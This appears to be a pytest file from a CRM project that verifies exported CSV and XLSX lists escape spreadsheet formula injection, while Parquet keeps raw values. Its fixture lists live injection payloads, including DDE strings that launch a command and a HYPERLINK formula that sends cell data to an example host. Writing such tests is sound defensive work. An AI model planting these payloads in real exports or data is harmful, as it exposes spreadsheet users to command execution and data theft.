"""Exported list files a spreadsheet opens (issue 14, hostile input): formula injection is neutralised.

A published `lists.retention_list` is written by hand into a throw-away database with hostile texts
(the formula-injection strings of the hostile corpus) beside a negative number; `crm lists export`
writes CSV, XLSX and Parquet and each file is read back the way its consumer reads it.
"""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import psycopg
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from crm_scoring.lists.export import FORMULA_ESCAPE, export_list

D1 = date(2026, 11, 26)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
]
SAFE = ["plain text", "a=b", "it's fine", "", "1-2", " =leading blank"]


@pytest.fixture
def hostile_list(fresh_db: str) -> str:
    texts = HOSTILE + SAFE
    with psycopg.connect(fresh_db, autocommit=True) as conn:
        conn.execute("create schema lists")
        conn.execute(
            "create table lists.retention_list (run_date date, customer_id text, priority_rank integer,"
            " trigger_detail text, expected_value_at_risk numeric(18, 2))"
        )
        with conn.cursor().copy("copy lists.retention_list from stdin") as cp:
            for i, text in enumerate(texts, start=1):
                cp.write_row((D1, f"c{i:03d}", i, text, Decimal("-1.50")))
            cp.write_row((D1, "=c999", len(texts) + 1, None, Decimal("2.00")))  # a hostile id, a null text
    return fresh_db


def _escaped(value: str) -> str:
    return FORMULA_ESCAPE + value if value.startswith(TRIGGERS) else value


def test_csv_and_xlsx_cells_never_start_a_formula(hostile_list: str, tmp_path: Path) -> None:
    texts = HOSTILE + SAFE
    want_ids = [f"c{i:03d}" for i in range(1, len(texts) + 1)] + ["'=c999"]
    want_texts = [_escaped(t) for t in texts] + [""]

    out = tmp_path / "retention.csv"
    export_list(D1, "retention", "csv", out, url=hostile_list)
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["customer_id"] for r in rows] == want_ids
    assert [r["trigger_detail"] for r in rows] == want_texts
    assert all(r["expected_value_at_risk"] in ("-1.50", "2.00") for r in rows)  # numbers stay numbers
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-1.50", value

    book = tmp_path / "retention.xlsx"
    export_list(D1, "retention", "xlsx", book, url=hostile_list)
    sheet = load_workbook(book)["list"]
    cells = list(sheet.iter_rows(min_row=2))
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"], "a formula cell"
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    details = [row[header.index("trigger_detail")].value for row in cells]
    assert details == [(t or None) and t.replace("\r", "\n") for t in want_texts]  # XML keeps no lone CR
    assert [row[header.index("expected_value_at_risk")].value for row in cells][0] == -1.5

    # Parquet is read by programs: the values are kept as they are in the warehouse
    pq_out = tmp_path / "retention.parquet"
    export_list(D1, "retention", "parquet", pq_out, url=hostile_list)
    assert pq.read_table(pq_out).column("trigger_detail").to_pylist() == [*texts, None]
